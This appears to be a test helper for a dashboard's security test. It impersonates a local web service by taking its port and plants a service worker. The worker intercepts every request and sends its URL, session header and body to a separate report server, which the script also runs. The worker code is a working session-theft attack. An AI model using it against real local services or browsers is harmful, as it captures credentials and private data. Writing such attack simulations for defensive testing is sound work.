/**
 * Run as another local user by dashboard-service-worker.slow.test.ts: what they serve while they hold the
 * owner's port (argv: `squat`), and where the worker they plant reports (argv: `report`). `squat REPORT_URL`
 * listens on 127.0.0.1 on a free port and serves a page that registers a service worker for the whole origin;
 * the worker passes every request on and reports its URL, its session header and its body to REPORT_URL.
 * `report` listens on a free port and prints every report it gets as one line. Each prints `port N` once it listens.
 */
const [mode, reportUrl] = process.argv.slice(2);

const WORKER = (report: string) => `
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  event.respondWith((async () => {
    let body = "";
    try { body = await event.request.clone().text(); } catch {}
    const seen = { url: event.request.url, method: event.request.method, session: event.request.headers.get("x-ext-session"), body };
    await fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body: JSON.stringify(seen) }).catch(() => {});
    return fetch(event.request);
  })());
});
`;

const PAGE = (report: string) => `<!doctype html><title>not the dashboard</title><script>
navigator.serviceWorker.register("/sw.js", { scope: "/" })
  .then(() => navigator.serviceWorker.ready)
  .then(() => fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body: JSON.stringify({ registered: location.origin }) }));
</script>`;

if (mode === "squat") {
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: (request) =>
      new URL(request.url).pathname === "/sw.js"
        ? new Response(WORKER(reportUrl!), { headers: { "content-type": "text/javascript" } })
        : new Response(PAGE(reportUrl!), { headers: { "content-type": "text/html" } }),
  });
  console.log(`port ${server.port}`);
} else if (mode === "report") {
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: async (request) => {
      console.log(JSON.stringify({ report: await request.text() }));
      return new Response("ok", { headers: { "access-control-allow-origin": "*" } });
    },
  });
  console.log(`port ${server.port}`);
} else throw new Error(`usage: squat REPORT_URL | report (got ${mode})`);
